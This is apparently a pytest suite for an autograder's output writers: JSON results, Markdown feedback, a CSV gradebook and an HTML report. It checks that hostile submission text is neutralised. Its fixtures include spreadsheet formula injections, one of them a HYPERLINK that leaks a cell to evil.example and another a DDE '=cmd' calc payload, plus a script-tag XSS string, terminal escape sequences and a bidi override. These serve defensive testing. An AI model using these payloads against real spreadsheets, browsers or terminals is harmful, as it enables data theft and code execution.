"""Tests of everything grading writes: results.json, feedback, gradebook, HTML report.

Results are built by hand, including hostile text a submission can put into them (bytes that
are not UTF-8, lone surrogates, terminal escapes, spreadsheet formulas, HTML, very long
messages). The oracles are independent of the code under test: Gradescope's documented
schema (checked with jsonschema), pandas reading the CSV, Python's HTML parser, Pillow
decoding the PNGs, and a real browser (headless Chromium) rendering the page.
"""

from __future__ import annotations

import base64
import io
import json
import os
import statistics
import weakref
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import browser
import jsonschema
import numpy as np
import pandas as pd
import pytest
from PIL import Image

from autograder.errors import UserError
from autograder.grading.results import SubmissionResult
from autograder.grading.results import TestResult as GradedTest  # aliased: pytest would collect "Test*"
from autograder.report import atomic
from autograder.report.escape import MAX_CHARS, clean_text, csv_cell, one_line
from autograder.report.feedback import render_feedback, write_feedback
from autograder.report.gradebook import write_grades_csv
from autograder.report.html import HISTOGRAM_COLOR, render_report, write_report
from autograder.report.results_json import read_results_json, to_gradescope, write_results_json

BAD_BYTES = b"expected 0.5, got \xff\xfe\x80 (bytes that are not UTF-8)"
SURROGATES = b"caf\xe9 \xed\xa0\x80".decode("utf-8", errors="surrogateescape")  # lone surrogates
ANSI = "\x1b[31;1mAssertionError\x1b[0m \x1b]0;owned title\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
SCRIPT = "<script>alert(1)</script><img src=https://evil.example/x.png>"
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1", "-2+3", "\t=1+1", " =cmd|' /C calc'!A0"]
LONG = "line of output\n" * 20_000 + "ValueError: the real error at the end"


# ----------------------------------------------------------------------------- builders


def make_test(function: str, what: str, score: float, max_score: float = 2.0, visibility: str = "visible",
              output: str = "") -> GradedTest:
    return GradedTest(name=f"{function}: {what}", function=function, score=score, max_score=max_score,
                      visibility=visibility, output=output)


def clean_submission(name: str = "alice", scores: tuple[float, ...] = (2, 2, 1, 0), leaderboard: bool = True) -> SubmissionResult:
    """Four tests over three functions; a failed test has a plain message."""
    functions = ["logistic_regression.loss", "logistic_regression.loss", "linear_regression.gradients",
                 "optimizers.Adam"]
    whats = ["matches the reference", "is a float", "matches a numerical gradient", "follows Kingma & Ba"]
    visibilities = ["visible", "hidden", "visible", "hidden"]
    tests = [make_test(f, w, s, 2.0, v, "" if s >= 2 else f"max abs error {0.1 * (i + 1):.2f} > 1e-8")
             for i, (f, w, s, v) in enumerate(zip(functions, whats, scores, visibilities, strict=True))]
    board = [{"name": "validation accuracy", "value": 0.9, "order": "desc"},
             {"name": "epochs", "value": 40, "order": "asc"}] if leaderboard else []
    return SubmissionResult(name=name, tests=tests, execution_time=12.5, output="graded in a sandbox",
                            leaderboard=board)


def hostile_submission() -> SubmissionResult:
    tests = [
        make_test("logistic_regression.loss", "matches the reference", 0, output=BAD_BYTES.decode("utf-8", "replace")),
        make_test("logistic_regression.loss", "is a float", 0, visibility="hidden", output=SURROGATES),
        make_test("linear_regression.gradients", "matches a numerical gradient", 0, output=ANSI),
        make_test("optimizers.Adam", "follows Kingma & Ba", 0, visibility="hidden", output=SCRIPT + "\n" + LONG),
    ]
    return SubmissionResult(name=FORMULAS[0], tests=tests, execution_time=3.0, output="```\n# not a heading\n" + ANSI,
                            leaderboard=[{"name": "validation accuracy", "value": "@SUM(1)"}])


def class_results(n: int = 18) -> list[SubmissionResult]:
    """A class: varied scores, hostile names among them, one unreadable submission."""
    rng = np.random.default_rng(0)
    results = []
    for i in range(n):
        scores = tuple(float(s) for s in rng.choice([0.0, 1.0, 2.0], size=4, p=[0.3, 0.2, 0.5]))
        name = FORMULAS[(i // 3) % len(FORMULAS)] if i % 3 == 0 else f"student{i:02d}"
        result = clean_submission(name, scores)
        result.leaderboard[0]["value"] = round(float(rng.uniform(0.7, 0.99)), 4)
        results.append(result)
    results.append(hostile_submission())
    results.append(SubmissionResult(name="broken-notebook", tests=[], output="notebook could not be read"))
    return results


# ----------------------------------------------------------------------------- escape


def test_clean_text_decodes_invalid_utf8_with_replacement():
    text = clean_text(BAD_BYTES)
    assert text.startswith("expected 0.5, got ")
    assert "\ufffd" in text
    text.encode("utf-8")  # always encodable


def test_clean_text_replaces_lone_surrogates():
    assert any(0xD800 <= ord(c) <= 0xDFFF for c in SURROGATES)
    text = clean_text(SURROGATES)
    assert text.startswith("caf\ufffd ")
    assert not any(0xD800 <= ord(c) <= 0xDFFF for c in text)
    text.encode("utf-8")


def test_clean_text_strips_terminal_escapes_and_controls():
    assert clean_text(ANSI) == "AssertionError click"
    assert clean_text("a\x00b\x07c\td\r\ne\x7ff\x85g\x9b2Jh\x1b") == "abc\td\nefgh"
    # Bidi overrides can make a line read differently from what it holds (Trojan Source).
    assert clean_text("ok\u202e// evil\u202c") == "ok// evil"
    assert clean_text(None) == ""
    # An unterminated title sequence hides the rest of its line only, not the next lines.
    assert clean_text("before\x1b]0;no end\nafter") == "before\nafter"


def test_clean_text_caps_length_keeping_head_and_tail():
    text = clean_text(LONG)
    assert len(text) < MAX_CHARS + 60
    assert text.startswith("line of output\n")
    assert text.endswith("ValueError: the real error at the end")
    assert f"{len(LONG) - MAX_CHARS} characters cut" in text
    assert clean_text("short", max_chars=10) == "short"
    assert clean_text(LONG, max_chars=None) == LONG


def test_one_line_flattens_whitespace_and_cuts():
    assert one_line("a\n\tb   c") == "a b c"
    assert one_line("x" * 50, max_chars=10) == "x" * 9 + "…"


@pytest.mark.parametrize("text", FORMULAS + ["\r=1+1"])
def test_csv_cell_neutralises_formulas(text):
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert cell[1:] == clean_text(text)


def test_csv_cell_leaves_numbers_and_plain_text():
    assert csv_cell(-1.5) == -1.5 and isinstance(csv_cell(-1.5), float)
    assert csv_cell(3) == 3 and isinstance(csv_cell(3), int)
    assert csv_cell(np.float64(0.25)) == 0.25 and type(csv_cell(np.float64(0.25))) is float
    assert csv_cell(np.int64(7)) == 7 and type(csv_cell(np.int64(7))) is int
    assert csv_cell(float("nan")) == "" and csv_cell(None) == ""
    assert csv_cell("student 01") == "student 01"
    assert csv_cell("a = b - c") == "a = b - c"  # a formula character inside is harmless
    assert csv_cell(b"\x1b[1m=1\x1b[0m") == "'=1"  # escapes are stripped before the check


# ----------------------------------------------------------------------------- atomic writes


def test_atomic_write_replaces_content_and_leaves_no_temp(tmp_path):
    target = tmp_path / "results.json"
    atomic.write_text_atomic(target, "old")
    atomic.write_text_atomic(target, "new ✓")
    assert target.read_text(encoding="utf-8") == "new ✓"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.json"]


def test_crash_at_replace_keeps_old_file_and_removes_temp(tmp_path, monkeypatch):
    target = tmp_path / "results.json"
    target.write_text('{"score": 1}')

    def crash(src, dst):
        raise OSError("simulated crash during rename")

    monkeypatch.setattr(atomic.os, "replace", crash)
    with pytest.raises(OSError, match="simulated crash"):
        write_results_json(clean_submission(), target)
    assert target.read_text() == '{"score": 1}'
    assert [p.name for p in tmp_path.iterdir()] == ["results.json"]


def test_crash_mid_stream_keeps_old_gradebook(tmp_path):
    target = tmp_path / "grades.csv"
    target.write_text("submission,score\nold,1\n")

    def results():
        yield clean_submission("a")
        yield clean_submission("b")
        raise RuntimeError("grader killed mid-batch")

    with pytest.raises(RuntimeError, match="mid-batch"):
        write_grades_csv(results(), target)
    assert target.read_text() == "submission,score\nold,1\n"
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


def test_atomic_write_keeps_mode_of_old_file_and_umask_for_new(tmp_path):
    old = tmp_path / "old.md"
    old.write_text("x")
    old.chmod(0o640)
    atomic.write_text_atomic(old, "y")
    assert old.stat().st_mode & 0o777 == 0o640
    previous = os.umask(0o027)
    try:
        new = tmp_path / "new.md"
        atomic.write_text_atomic(new, "z")
    finally:
        os.umask(previous)
    assert new.stat().st_mode & 0o777 == 0o640  # 0o666 & ~0o027, as open() would give


def test_atomic_open_rejects_append_mode(tmp_path):
    with pytest.raises(ValueError, match="whole files"), atomic.atomic_open(tmp_path / "f", "a"):
        pass


# ----------------------------------------------------------------------------- results.json

_VISIBILITY = {"enum": ["visible", "hidden", "after_due_date", "after_published"]}
_FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
# Gradescope's documented results.json (gradescope-autograders.readthedocs.io, "Output format").
# additionalProperties: false, so a misspelt key fails instead of being ignored by Gradescope.
GRADESCOPE_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": ["score", "tests"],
    "additionalProperties": False,
    "properties": {
        "score": {"type": "number"},
        "execution_time": {"type": "number", "minimum": 0},
        "output": {"type": "string"},
        "output_format": _FORMAT,
        "test_output_format": _FORMAT,
        "test_name_format": _FORMAT,
        "visibility": _VISIBILITY,
        "stdout_visibility": _VISIBILITY,
        "extra_data": {"type": "object"},
        "tests": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name", "score", "max_score", "output", "visibility"],
                "additionalProperties": False,
                "properties": {
                    "score": {"type": "number"},
                    "max_score": {"type": "number"},
                    "status": {"enum": ["passed", "failed"]},
                    "name": {"type": "string"},
                    "name_format": _FORMAT,
                    "number": {"type": "string"},
                    "output": {"type": "string"},
                    "output_format": _FORMAT,
                    "tags": {"type": "array", "items": {"type": "string"}},
                    "visibility": _VISIBILITY,
                    "extra_data": {"type": "object"},
                },
            },
        },
        "leaderboard": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name", "value"],
                "additionalProperties": False,
                "properties": {
                    "name": {"type": "string"},
                    "value": {"type": ["number", "string"]},
                    "order": {"enum": ["asc", "desc"]},
                },
            },
        },
    },
}


@pytest.mark.parametrize("make", [clean_submission, hostile_submission])
def test_results_json_validates_against_gradescope_schema(tmp_path, make):
    result = make()
    path = tmp_path / "results.json"
    write_results_json(result, path)
    raw = path.read_bytes()
    data = json.loads(raw.decode("utf-8"))  # strict UTF-8, no lone surrogates
    jsonschema.Draft202012Validator(GRADESCOPE_SCHEMA).validate(data)
    assert data["stdout_visibility"] == "hidden"
    assert data["score"] == pytest.approx(sum(t.score for t in result.tests))
    assert [t["status"] for t in data["tests"]] == ["passed" if t.score >= t.max_score else "failed"
                                                    for t in result.tests]
    assert [t["visibility"] for t in data["tests"]] == [t.visibility for t in result.tests]
    assert b"\x1b" not in raw and b"NaN" not in raw


def test_results_json_round_trips(tmp_path):
    result = clean_submission()
    path = tmp_path / "alice" / "results.json"
    path.parent.mkdir()
    write_results_json(result, path)
    assert read_results_json(path) == result


def test_results_json_cleans_hostile_text(tmp_path):
    result = hostile_submission()
    path = tmp_path / "results.json"
    write_results_json(result, path)
    back = read_results_json(path)
    assert back.name == clean_text(result.name)
    assert [t.output for t in back.tests] == [clean_text(t.output) for t in result.tests]
    assert back.tests[2].output == "AssertionError click"
    assert back.tests[3].output.endswith("ValueError: the real error at the end")
    assert back.score == result.score and back.max_score == result.max_score
    assert back.leaderboard == [{"name": "validation accuracy", "value": "@SUM(1)"}]


def test_leaderboard_entry_without_value(tmp_path):
    result = clean_submission()
    result.leaderboard = [{"name": "validation accuracy", "value": None, "order": "desc"},
                          {"name": "epochs", "value": 40, "order": "asc"},
                          {"name": "final loss", "value": float("nan"), "order": "asc"}]
    data = to_gradescope(result)
    assert data["leaderboard"] == [{"name": "epochs", "value": 40, "order": "asc"}]  # Gradescope ranks values
    jsonschema.Draft202012Validator(GRADESCOPE_SCHEMA).validate(data)
    assert "| validation accuracy | no value |" in render_feedback(result)
    result.leaderboard = result.leaderboard[:1]
    assert "leaderboard" not in to_gradescope(result)


def test_results_json_without_extra_data_takes_function_from_name(tmp_path):
    data = {"score": 1.0, "tests": [{"name": "optimizers.Adam: first step", "score": 1.0, "max_score": 2.0}]}
    folder = tmp_path / "bob"
    folder.mkdir()
    (folder / "results.json").write_text(json.dumps(data))
    result = read_results_json(folder / "results.json")
    assert result.name == "bob"
    assert result.tests[0].function == "optimizers.Adam"
    assert result.tests[0].visibility == "visible"


def test_results_json_rejects_what_gradescope_would(tmp_path):
    bad_visibility = clean_submission()
    bad_visibility.tests[0].visibility = "secret"
    with pytest.raises(ValueError, match="visibility"):
        to_gradescope(bad_visibility)
    nan_score = clean_submission()
    nan_score.tests[0].score = float("nan")
    path = tmp_path / "results.json"
    path.write_text("old")
    with pytest.raises(ValueError, match="finite"):
        write_results_json(nan_score, path)
    assert path.read_text() == "old"


def test_read_results_json_errors_are_user_errors(tmp_path):
    with pytest.raises(UserError, match="no such results file"):
        read_results_json(tmp_path / "missing.json")
    (tmp_path / "bad.json").write_text("{not json")
    with pytest.raises(UserError, match="not a JSON results file"):
        read_results_json(tmp_path / "bad.json")
    (tmp_path / "wrong.json").write_text('{"tests": [{"name": "x"}]}')
    with pytest.raises(UserError, match="no 'score'"):
        read_results_json(tmp_path / "wrong.json")


# ----------------------------------------------------------------------------- feedback


def _outside_fences(markdown: str) -> list[str]:
    """The lines of ``markdown`` that are not inside a fenced code block (CommonMark rules)."""
    outside, fence = [], None
    for line in markdown.splitlines():
        run = len(line) - len(line.lstrip("`"))
        if fence is None and run >= 3:
            fence = run
        elif fence is not None and run >= fence and not line.strip("`"):
            fence = None
        elif fence is None:
            outside.append(line)
    return outside


def test_feedback_has_total_table_and_failed_messages():
    result = clean_submission(scores=(2, 2, 1, 0))
    text = render_feedback(result)
    assert "**Total: 5 / 8 points (62.5%)**" in text
    # one row per function with its own sum: loss 2+2 of 4, gradients 1 of 2, Adam 0 of 2
    assert "| logistic\\_regression.loss | 4 | 4 |" in text
    assert "| linear\\_regression.gradients ✗ | 1 | 2 |" in text
    assert "| optimizers.Adam ✗ | 0 | 2 |" in text
    failing = text.split("## What to fix", 1)[1]
    assert "max abs error 0.30 > 1e-8" in failing and "max abs error 0.40 > 1e-8" in failing
    assert "linear\\_regression.gradients: matches a numerical gradient" in failing
    assert "optimizers.Adam: follows Kingma \\& Ba" in failing
    assert "0 / 2 points, hidden test" in failing  # hidden test: name, score and message shown
    assert "is a float" not in failing  # passed tests are not listed as things to fix
    assert "graded in a sandbox" in text
    assert "| validation accuracy | 0.9 |" in text


def test_feedback_all_passed_and_no_tests():
    assert "All 4 tests passed" in render_feedback(clean_submission(scores=(2, 2, 2, 2)))
    empty = render_feedback(SubmissionResult(name="x", tests=[], output="notebook could not be read"))
    assert "No test could be run" in empty and "notebook could not be read" in empty


def test_feedback_keeps_hostile_text_inert(tmp_path):
    result = hostile_submission()
    path = tmp_path / "feedback.md"
    write_feedback(result, path)
    text = path.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\ufffd" in text
    outside = "\n".join(_outside_fences(text))
    # Raw HTML and a heading injected by a message stay inside code fences.
    assert "<script>" not in outside and "<img" not in outside
    assert "# not a heading" not in outside
    assert "<script>alert(1)</script>" in text  # shown literally, inside a fence
    assert "ValueError: the real error at the end" in text
    assert len(text) < 3 * MAX_CHARS + 3000  # the 300 kB message was capped
    # The name, a formula with a URL, is escaped: no bare URL to auto-link, no entity.
    assert text.splitlines()[0] == '# Feedback: =HYPERLINK("https:\\/\\/evil.example/?leak="\\&A1,"click")'
    assert "://" not in outside


# ----------------------------------------------------------------------------- gradebook


def test_gradebook_loads_in_pandas_one_row_per_submission(tmp_path):
    results = class_results()
    path = tmp_path / "grades.csv"
    assert write_grades_csv(results, path) == len(results)
    table = pd.read_csv(path)
    assert len(table) == len(results)
    functions = ["logistic_regression.loss", "linear_regression.gradients", "optimizers.Adam"]
    assert list(table.columns) == ["submission", "status", "score", "max_score", *functions,
                                   "leaderboard.validation accuracy", "leaderboard.epochs", "reason"]
    for column in ["score", "max_score", *functions]:
        assert pd.api.types.is_float_dtype(table[column]), column
    np.testing.assert_allclose(table["score"], [r.score for r in results])
    np.testing.assert_allclose(table["max_score"], [r.max_score for r in results])
    for function in functions:
        expected = [r.by_function()[function][0] if r.tests else np.nan for r in results]
        np.testing.assert_allclose(table[function], expected)
    np.testing.assert_allclose(table["leaderboard.epochs"].iloc[:-2], [40] * (len(results) - 2))


def test_gradebook_injection_cells_come_back_as_inert_text(tmp_path):
    results = class_results()
    path = tmp_path / "grades.csv"
    write_grades_csv(results, path)
    table = pd.read_csv(path)
    names = table["submission"].tolist()
    for result, name in zip(results, names, strict=True):
        cleaned = clean_text(result.name)
        if cleaned.lstrip()[:1] in ("=", "+", "-", "@") or cleaned.startswith("\t"):
            assert name == "'" + cleaned
        else:
            assert name == cleaned
    hostile_board = table["leaderboard.validation accuracy"].iloc[-2]
    assert hostile_board == "'@SUM(1)"
    # No text cell anywhere starts with a character a spreadsheet would evaluate.
    for column in table.columns:
        for cell in table[column]:
            if isinstance(cell, str):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_gradebook_streams_without_keeping_results(tmp_path):
    refs: list[weakref.ref] = []

    def results():
        for i in range(30):
            # Results hold no reference cycles, so refcounting frees them at once: no gc.collect().
            alive = sum(ref() is not None for ref in refs)
            # The writer may still hold the row it just wrote, never the earlier ones.
            assert alive <= 1, f"{alive} earlier results still in memory"
            result = clean_submission(f"s{i}")
            refs.append(weakref.ref(result))
            yield result

    assert write_grades_csv(results(), tmp_path / "grades.csv") == 30
    assert len(pd.read_csv(tmp_path / "grades.csv")) == 30


def test_gradebook_columns_first_seen_late_still_get_their_place(tmp_path):
    # The first submission ran no test, the second has no leaderboard value (None): their
    # columns appear later, and the earlier rows get empty cells.
    empty = SubmissionResult(name="empty", tests=[])
    no_value = clean_submission("a", leaderboard=False)
    no_value.leaderboard = [{"name": "validation accuracy", "value": None, "order": "desc"}]
    sgd = SubmissionResult(name="b", tests=[make_test("optimizers.SGD", "one step", 2)],
                           leaderboard=[{"name": "validation accuracy", "value": 0.75}])
    path = tmp_path / "grades.csv"
    assert write_grades_csv(iter([empty, no_value, sgd]), path) == 3
    table = pd.read_csv(path)
    assert list(table.columns) == ["submission", "status", "score", "max_score", "logistic_regression.loss",
                                   "linear_regression.gradients", "optimizers.Adam", "optimizers.SGD",
                                   "leaderboard.validation accuracy", "reason"]
    assert list(table["submission"]) == ["empty", "a", "b"]
    np.testing.assert_allclose(table["score"], [0, 5, 2])
    np.testing.assert_allclose(table["optimizers.SGD"], [np.nan, np.nan, 2])
    np.testing.assert_allclose(table["logistic_regression.loss"], [np.nan, 4, np.nan])
    np.testing.assert_allclose(table["leaderboard.validation accuracy"], [np.nan, np.nan, 0.75])


def test_gradebook_caller_columns_come_first(tmp_path):
    path = tmp_path / "grades.csv"
    adam_only = SubmissionResult(name="b", tests=[make_test("optimizers.Adam", "one step", 1.5)])
    write_grades_csv([adam_only], path, functions=["extra.f", "optimizers.Adam"], leaderboard=["loss"])
    table = pd.read_csv(path)
    assert list(table.columns) == ["submission", "status", "score", "max_score", "extra.f", "optimizers.Adam",
                                   "leaderboard.loss", "reason"]
    assert table.loc[0, "optimizers.Adam"] == 1.5 and np.isnan(table.loc[0, "extra.f"])


def test_gradebook_of_nothing_is_a_header(tmp_path):
    assert write_grades_csv([], tmp_path / "grades.csv") == 0
    assert list(pd.read_csv(tmp_path / "grades.csv").columns) == ["submission", "status", "score", "max_score",
                                                                  "reason"]


# ----------------------------------------------------------------------------- HTML report


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _parse(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser


def test_report_is_self_contained_and_escaped(tmp_path):
    path = tmp_path / "report.html"
    write_report(class_results(), path)
    page = path.read_text(encoding="utf-8")
    parsed = _parse(page)
    tags = {tag for tag, _ in parsed.tags}
    assert not tags & {"iframe", "object", "embed", "link", "base", "form"}
    # One script, the page's own (sorting the table): inline, and the only one.
    scripts = [attrs for tag, attrs in parsed.tags if tag == "script"]
    assert scripts == [{}] and page.lower().count("<script") == 1
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text
    for tag, attrs in parsed.tags:
        for key, value in attrs.items():
            assert not key.startswith("on"), (tag, key)
            if key in ("src", "srcset", "poster", "data", "action"):
                assert value.startswith("data:image/png;base64,"), (tag, key, value[:60])
            if key == "href":  # a section of the page, or a feedback file beside it
                assert value.startswith("#") or (value.endswith("/feedback.md") and value.count("/") == 1
                                                 and ":" not in value and not value.startswith(".")), value
            assert "http://" not in (value or "") and "https://" not in (value or ""), (tag, key)
    style = page[page.index("<style>"): page.index("</style>")]
    assert "url(" not in style and "@import" not in style and "http" not in style
    assert "\x1b" not in page
    images = [attrs["src"] for tag, attrs in parsed.tags if tag == "img"]
    assert len(images) == 1  # the histogram; pass rates are a table
    for src in images:
        png = Image.open(io.BytesIO(base64.b64decode(src.split(",", 1)[1])))
        png.load()
        assert png.format == "PNG" and png.width > 400 and png.height > 150


def test_report_numbers_match_an_independent_computation():
    results = class_results()
    page = render_report(results)
    text = " ".join(_parse(page).text)
    scores = [r.score for r in results]
    assert f"{statistics.fmean(scores):.2f}" in text and f"{statistics.median(scores):.2f}" in text
    assert f"{min(scores):.2f}" in text and f"{max(scores):.2f}" in text
    graded = [r for r in results if r.max_score > 0]
    assert f"{100 * statistics.fmean(r.score / r.max_score for r in graded):.1f}%" in text
    name = "optimizers.Adam: follows Kingma & Ba"
    passed = sum(t.passed for r in results for t in r.tests if t.name == name)
    assert f"{passed} / {len(graded)}" in text
    assert f"{100 * passed / len(graded):.0f}%" in text


def _section(page: str, title: str, until: str) -> str:
    text = " ".join(" ".join(_parse(page).text).split())
    return text.split(title, 2)[2].split(until, 1)[0]  # [1] is the navigation link


def test_report_counts_each_student_once_per_function_with_the_most_frequent_diagnosis():
    def failing(name: str, messages: list[str]) -> SubmissionResult:
        return SubmissionResult(name=name, tests=[make_test("m.f", f"check {i}", 0, output=m)
                                                  for i, m in enumerate(messages)]
                                + [make_test("m.g", "check", 2, 2)])
    likely = "m.f: f(x): 3 of 3 value(s) differ\n  Likely bug: got ≈ n × expected with n = {}: summed"
    results = [failing(f"s{i}", [likely.format(n)] * 4) for i, n in enumerate([2, 3, 5])]  # 4 tests each
    results.append(failing("t", ["m.f: f(x): wrong shape (3, 1)"]))
    results.append(failing("u", ["m.f: m.py was not submitted"] * 4))  # listed at the top, not here
    failures = _section(render_report(results), "Failures per function", "Pass rates")
    assert "m.f 4 / 4" in failures  # four students among the four whose module loaded, not 13 tests
    assert "3 got ≈ n × expected with n = 2: summed" in failures and "1 wrong shape (3, 1)" in failures
    assert failures.index("3 got") < failures.index("1 wrong shape")
    assert "m.g" not in failures  # never failed


def test_report_lists_what_is_not_graded_first_and_links_every_feedback():
    results = class_results()
    results.append(SubmissionResult(name="corrupt", tests=[], status="unreadable", reason="the zip could not be read"))
    results.append(SubmissionResult(name="late", tests=[], status="interrupted", reason="the batch was stopped"))
    page = render_report(results)
    parsed = _parse(page)
    text = " ".join(" ".join(parsed.text).split())
    top = text.split("Not graded as handed in", 1)[1].split("Class summary", 1)[0]
    assert "corrupt unreadable 0 / 0 the zip could not be read" in top and "late interrupted" in top
    assert "student01" not in top
    assert page.index('id="not-graded"') < page.index('id="summary"') < page.index('id="submissions"') \
        < page.index('id="failures"') < page.index('id="tests"')
    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a" and attrs["href"].endswith("feedback.md")]
    assert "student01/feedback.md" in links and "corrupt/feedback.md" in links
    assert "%40SUM%281%29/feedback.md" in links  # "@SUM(1)", percent-encoded
    assert not any("evil.example" in link for link in links)  # a name with "/" is no folder: no link


def test_a_300_student_report_stays_small_and_keeps_the_table_in_one_screen():
    results = class_results(300)
    page = render_report(results)
    assert len(page.encode()) < 1_500_000
    assert page.count("<img") == 1
    assert '<div class="scroll"><table class="wide sortable">' in page  # at most 70 % of the window high


def test_report_leaderboard_respects_order():
    results = [SubmissionResult(name=n, tests=[make_test("m.f", "c", 1, 1)],
                                leaderboard=[{"name": "loss", "value": v, "order": "asc"}])
               for n, v in [("mid", 0.5), ("best", 0.1), ("worst", 0.9)]]
    text = " ".join(" ".join(_parse(render_report(results)).text).split())
    board = text.split("Leaderboard", 2)[2]  # [1]: the navigation link
    assert board.index("best") < board.index("mid") < board.index("worst")
    assert "lowest first" in board


def test_report_is_deterministic_and_handles_no_submissions():
    results = class_results()
    assert render_report(results) == render_report(results)
    empty = render_report([])
    assert "No submissions." in empty and "<img" not in empty


@pytest.mark.slow  # 2-13 s, depending on the machine's load
@pytest.mark.skipif(browser.chromium() is None, reason="headless Chromium is not installed (CI installs the chromium package)")
def test_report_renders_in_headless_chromium(tmp_path):
    page = tmp_path / "report.html"
    write_report(class_results(), page)
    image = browser.screenshot(page, tmp_path, 1200, 1600)
    assert image.shape == (1600, 1200, 3)
    # The page as a whole: text, tables and charts give many colours and plenty of ink.
    assert len(np.unique(image.reshape(-1, 3), axis=0)) > 500
    assert (image.sum(axis=2) < 3 * 245).mean() > 0.05
    # The histogram: its bars have their own colour; the image rendered if a block of that colour is on screen.
    bar = np.array([int(HISTOGRAM_COLOR[i:i + 2], 16) for i in (1, 3, 5)])
    rows, cols = np.nonzero(np.abs(image - bar).max(axis=2) <= 12)
    assert len(rows) > 5000, "histogram bars not visible"
    assert rows.max() - rows.min() > 100 and cols.max() - cols.min() > 200
    assert rows.min() < 800  # in the class summary at the top of the page


def _gradebook_folder(tmp_path: Path) -> Path:
    """A gradebook folder as `grade` leaves it: results and feedback per submission, then the report."""
    from autograder.report.gradebook import write_gradebook

    out = tmp_path / "out"
    for result in class_results(8)[1:] + [SubmissionResult("corrupt", [], status="unreadable", reason="bad zip",
                                                           output="the zip could not be read")]:
        (out / result.name).mkdir(parents=True)
        write_results_json(result, out / result.name / "results.json")
        write_feedback(result, out / result.name / "feedback.md")
    write_gradebook(out)
    return out


@pytest.mark.slow  # two to four Chromium runs
@pytest.mark.skipif(browser.chromium() is None, reason="headless Chromium is not installed (CI installs the chromium package)")
def test_report_clicks_through_from_the_table_to_a_feedback_page(tmp_path):
    out = _gradebook_folder(tmp_path)
    report = out / "report.html"
    # The page as Chromium built it (after its script ran): every submission's link in the table.
    dom = browser.run(tmp_path, "--dump-dom", report.as_uri())
    assert dom.returncode == 0, dom.stderr[-2000:]
    table = dom.stdout.split('id="submissions"', 1)[1].split("</section>", 1)[0]
    links = [attrs["href"] for tag, attrs in _parse(table).tags if tag == "a"]
    assert sorted(map(unquote, links)) == sorted(f"{name}/feedback.md" for name in (p.parent.name for p in out.glob("*/results.json")))
    # Follow one as the browser resolves it (relative to the report), and render the target.
    target = (report.parent / unquote(links[0])).resolve()
    assert target.is_file() and target.parent.parent == out
    page = browser.run(tmp_path, "--dump-dom", report.as_uri().rsplit("/", 1)[0] + "/" + links[0])
    assert f"# Feedback: {target.parent.name}" in page.stdout
    shot = tmp_path / "feedback.png"
    done = browser.run(tmp_path, f"--screenshot={shot}", "--window-size=900,700",
                         report.as_uri().rsplit("/", 1)[0] + "/" + links[0])
    assert done.returncode == 0 and shot.exists(), done.stderr[-2000:]
    image = np.asarray(Image.open(shot).convert("RGB")).astype(int)
    assert (image.sum(axis=2) < 3 * 128).mean() > 0.005  # text on the page, not a blank or a download


@pytest.mark.slow
@pytest.mark.skipif(browser.chromium() is None, reason="headless Chromium is not installed (CI installs the chromium package)")
def test_clicking_a_column_head_sorts_the_submissions_table(tmp_path):
    out = _gradebook_folder(tmp_path)
    page = (out / "report.html").read_text(encoding="utf-8")
    # The report, plus a click on the Score head (twice: descending) once the page's own script ran.
    click = ('<script>var th = document.querySelectorAll("#submissions thead th")[2]; th.click(); th.click();'
             "</script></body>")
    clicked = tmp_path / "clicked.html"
    clicked.write_text(page.replace("</body>", click), encoding="utf-8")
    dom = browser.run(tmp_path, "--dump-dom", clicked.as_uri())
    body = dom.stdout.split('id="submissions"', 1)[1].split("</tbody>", 1)[0]
    keys = [float(attrs["data-sort"]) for tag, attrs in _parse(body).tags if tag == "td" and "data-sort" in attrs]
    columns = 3 + 3  # score, %, tests passed, then the three modules: the cells with a sort key, per row
    by_row = [keys[i:i + columns] for i in range(0, len(keys), columns)]
    shown = [row[0] for row in by_row]
    assert len(shown) == 9 and shown == sorted(shown, reverse=True) and shown != sorted(shown)
